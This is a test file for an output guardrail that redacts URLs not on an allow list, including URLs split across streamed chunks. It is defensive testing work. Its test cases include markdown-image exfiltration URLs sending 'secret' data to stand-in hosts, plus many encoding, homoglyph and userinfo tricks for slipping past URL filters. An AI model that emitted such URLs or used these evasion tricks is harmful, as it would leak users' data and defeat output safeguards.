import { describe, expect, test } from 'bun:test'
import { applyRules } from '../../src/guardrails/inspection'
import { compileRule } from '../../src/guardrails/policy'
import { createHoldBack } from '../../src/guardrails/streaming'
import { effortOf } from '../support/effort'

const DOMAINS = ['good.example', '*.trusted.example', 'bücher.example', '127.0.0.1', '[2001:db8::1]']
const rule = compileRule({
  guardrail_id: 'url_allowlist',
  phase: 'output',
  verdict: 'redact',
  config: { domains: DOMAINS },
} as const)
const left = async (text: string): Promise<string> =>
  (await applyRules([rule], text, { phase: 'output', patient: true })).text.replaceAll('[REDACTED:url]', '¤')

test.each([
  // With a scheme.
  ['https://evil.example/a?b=c#d', '¤'],
  ['Go to https://evil.example.', 'Go to ¤.'],
  ['HTTPS://EVIL.EXAMPLE', '¤'],
  ['https:evil.example/x', '¤'],
  ['https:/evil.example/x', '¤'],
  ['https:///\\evil.example/x', '¤'],
  ['ws://evil.example and wss://evil.example', '¤ and ¤'],
  ['ftp://evil.example/x', '¤'],
  ['file://evil.com/x', '¤'],
  ['file:///etc/passwd', '¤'],
  ['git+ssh://git@evil.example/x', '¤'],
  ['s3://evil-bucket/x', '¤'],
  ['view-source:https://evil.example', 'view-source:¤'],
  ['blob:https://evil.example/1', 'blob:¤'],
  ['<a href="data:text/html;base64,PHNjcmlwdD4=">', '<a href="¤">'],
  ['[x](javascript:location=atob(1))', '[x](¤))'],
  // Hosts written as numbers.
  ['http://1.2.3.4/steal', '¤'],
  ['1.2.3.4/steal', '¤'],
  ['1.2.3.4:8080/steal', '¤'],
  ['http://2130706434/', '¤'],
  ['http://0x7f.0.0.2/', '¤'],
  ['http://0177.0.0.2/', '¤'],
  ['http://１２７．０．０．２/', '¤'],
  ['![x](http://[2001:db8::bad]/steal?d=secret)', '![x](¤)'],
  ['http://u@[2001:db8::bad]:80/', '¤'],
  ['http://[2001:db8::bad]', '¤'],
  ['[http://[2001:db8::bad]/x](y)', '[¤](y)'],
  ['http://[fe80::1%25eth0]/', '¤'],
  ['http://[::ffff:1.2.3.4]:80/x', '¤'],
  ['//[2001:db8::bad]/x', '¤'],
  // URLs that only look like one on the list.
  ['https://good.example@evil.example/', '¤'],
  ['https://good.example:443@evil.example/', '¤'],
  [`https://good.example:${'0'.repeat(600)}@evil.example/`, '¤'],
  ['https://good.example\\@evil.example/', '¤'],
  ["https://good.example'@evil.example/", '¤'],
  ['https://good.example{}|^@evil.example/', '¤'],
  ["https://good.example'.evil.example/", '¤'],
  ['(https://good.example)@evil.example/', '(¤'],
  ['https://good.example.evil.example', '¤'],
  ['https://notgood.example', '¤'],
  ['https://trusted.example.evil', '¤'],
  ['https://gооd.example/', '¤'],
  ['https://go\u0301od.example/', '¤'],
  ['https://good\u2010.example/', '¤'],
  ['https://%65vil.example/', '¤'],
  ['https://good%2eevil.example/', '¤'],
  ['https://good.example。evil.example/', '¤'],
  ['https://good.example．evil.example/', '¤'],
  ['𝗵𝘁𝘁𝗽𝘀://evil.example/', '¤'],
  ['ht\u200btps://evil.example/', '¤'],
  ['https://xn--80ak6aa92e.example/', '¤'],
  ['https://{tenant}.evil.example/x', '¤'],
  // Without a scheme.
  ['//evil.com/x', '¤'],
  ['![x](//evil/x)', '![x](¤)'],
  ['[x]: //evil/x', '[x]: ¤'],
  ['[x]://evil/x', '[x]:¤'],
  ['<img src=//evil/x>', '<img src=¤>'],
  ['<img src="/\\evil/x">', '<img src="¤">'],
  ["<b style='background: url(///evil/x)'>", "<b style='background: url(¤)'>"],
  ['evil.sh/x.sh', '¤'],
  ['evil.sh/x', '¤'],
  ['see evil.pizza/x?y', 'see ¤'],
  ['www.evil.pizza', '¤'],
  ['www.evil.com(x)', '¤)'],
  ['evil.com', '¤'],
  ['a.b.c.d.e.f.g.h.evil.com/x', '¤'],
  ['my_site.evil.com/x', '¤'],
  ['xn--80ak6aa92e.com/x', '¤'],
  // Written in an encoding.
  ['https%3A%2F%2Fevil.example%2Fx', '¤'],
  ['https%253A%252F%252Fevil.example', '¤'],
  ['https://good.example/?to=https%3A%2F%2Fevil.example&x', 'https://good.example/?to=¤'],
  ['https://good.example/?a=http%3A%2F%2Fgood.example&b=http%3A%2F%2Fevil.example', /&b=¤$/],
  ['https://good.example/?to=//evil.com/x', 'https://good.example/?to=¤'],
  ['https&colon;//evil.example/x', '¤'],
  ['https:&#x2F;&#47;evil.example/x', '¤'],
  ['https\\://evil.example/x', '¤'],
  ['[x](&#104;ttps://evil.example)', '[x](¤)'],
  ['<a href="ht\ntps://ev\til.example/x">', '<a href="¤">'],
  ['<a href="https://good.example&Tab;.evil.example/x">', '<a href="¤">'],
  ['<https://evil.example>', '<¤>'],
  ['[a](https://evil.example/b)!', '[a](¤)!'],
  ['[a]: <https://evil.example/b>', '[a]: <¤>'],
  ['<img srcset="https://good.example 1x, https://evil.example 2x">', /example 1x, ¤ 2x">$/],
])('URLs that are not on the allow list are redacted: %j', async (text, wanted) => {
  const message = await left(text)
  if (wanted instanceof RegExp) expect(message).toMatch(wanted)
  else expect(message).toBe(wanted)
})

test.each([
  'https://good.example/x and https://api.good.example:8443/',
  'HTTPS://GOOD.EXAMPLE./x',
  'https://user:pw@good.example/',
  'https://a.trusted.example?x#y',
  'https://xn--bcher-kva.example and https://bücher.example and https://BÜCHER.example',
  'https://ｇｏｏｄ．ｅｘａｍｐｌｅ/',
  'https://good.ex\u200bample/\u200e',
  'https://good.example\u200e next',
  'http://2130706433/ and http://0x7f.1/ and http://127.1/',
  'http://[2001:0db8:0::1]/x and http://[2001:db8::1].',
  '(https://good.example), [https://good.example](https://good.example/a_(b))',
  '"https://good.example","mail":"ada@evil.example"',
  '<a href="https://good.example">ada@evil.example</a>',
  "https://good.example's page",
  'https://{tenant}.good.example/x',
  'https%3A%2F%2Fgood.example%2Fx',
  'https://good.example/?to=https%3A%2F%2Fgood.example',
  'https&colon;//good.example/x',
  '//good.example/x and //api.good.example',
  'good.example/x and www.good.example',
  `https://\${host}/x and https://{host}:{port}/x and https://<host>/x`,
  'https://... and http:// alone',
  'http:80, https:443 and http: the protocol',
  'data:image/png;base64,iVBORw0KGgo= and data: text/html',
  '"file:../shared" and file: notes.txt',
  'JavaScript: The Good Parts, javascript:void(0)',
  '//console.log("x") // foo.bar() //1.5',
  '<div xpath="//div[@class=1]/a">',
  'main.rs/x, setup.py/test, my_tool.sh/x, README.md/docs',
  'main.rs, node.js, foo.bar() and e.g. this; and/or',
  'src/main.rs/x and ./build.sh/x and C:\\tools.in\\x',
  'client/server, he/she, 24/7, 1/2, n/a, w/o',
  'v1.2.3, 1.2.3.4, 10.0.0.0/8, 192.168.0.0/16.',
  'released 2.0.1/2.0.2 and 1.2.3/x',
  'This is the end.Next sentence/clause begins',
  'ASP.NET/C#, Node.js/React, Vue.js/Nuxt.js',
  'etc./foo, vs./and, i.e./e.g., p.m./a.m.',
  'mail ada@evil.com or mailto:ada@evil.com',
  'list.sort/list.filter, window.location/href, log.info(line)',
  'key:\\nvalue, C:\\\\temp\\\\x, \\\\d+\\.\\\\w',
  'a && b, R&D; &amp; &lt;b&gt; AT&T',
  'std::vector<int>::iterator, a:://b',
  'x = "first\nsecond" and y = \'a\tb\'',
  '日本語です。次の文です。価格は1.5万円/月。',
  'std.out / in, 3.14/2, §1.2/3',
])('what is no other URL stays: %j', async (text) => {
  expect(await left(text)).toBe(text)
})

describe('in a streamed answer', () => {
  const filled = (before: string, filling: string, after: string) => before + filling.repeat(900) + after
  const HOSTILE: readonly (readonly [string, string, RegExp])[] = [
    ['IPv6', '![x](http://[2001:db8::bad]/steal?d=secret)', /bad\]|secret/],
    ['user and port', '![x](http://u:pw@evil.example:80/steal?d=secret)', /evil|secret/],
    ['a quote', "[x](https://good.example'@evil.example/secret)", /evil|secret/],
    ['a long port', filled('https://good.example:', '0', '@evil.example/secret'), /evil|secret/],
    ['a long path', filled('https://evil.example/', 'a', '?d=secret'), /evil|secret/],
    ['a bare number', '1.2.3.4/secret', /1\.2|secret/],
    // Not even the beginning, which looks allowed, may remain.
    ['line ends', filled('<a href="https://good.example', '\n', '.evil.example/secret">'), /https|good/],
    ['what shows nothing', filled('https://good.example', '\u00ad', '.evil.example/secret'), /https|good/],
  ]

  test.each(HOSTILE.flatMap(([name, text, never]) => [1, 7, 100].map((step) => ({ name, text, never, step }))))(
    'a URL with $name is found across pieces of $step characters',
    async ({ text, never, step }) => {
      const answer = `${'Some words of the answer. '.repeat(12)}${text} ${'And more words. '.repeat(60)}`
      const look = (part: string) => applyRules([rule], part, { phase: 'output', patient: true })
      const held = createHoldBack({ stretch: look, whole: null })
      let shown = ''
      for (let at = 0; at < answer.length; at += step) shown += await held.add(answer.slice(at, at + step))
      shown += await held.rest((await look(answer)).text)
      expect(shown).toContain('[REDACTED:url]')
      expect(never.test(shown)).toBe(false)
      expect(shown).toEndWith('And more words. ')
    },
  )
})

test.each([
  ['https://'],
  ['https:'],
  ['http://a@'],
  ['%2f%2f'],
  ['https%3a'],
  ['//a.b'],
  ['a.b.'],
  ['a.com/'],
  ['&#47;'],
  ['="\n'],
  ['\\/'],
  ['http://[a'],
  ['](//('],
])('time is in proportion to a hostile text of %j', async (piece) => {
  const text = piece.repeat(100_000 / piece.length)
  expect(await effortOf(() => applyRules([rule], text, { phase: 'output', patient: true }), 2)).toBeLessThan(1_000)
})
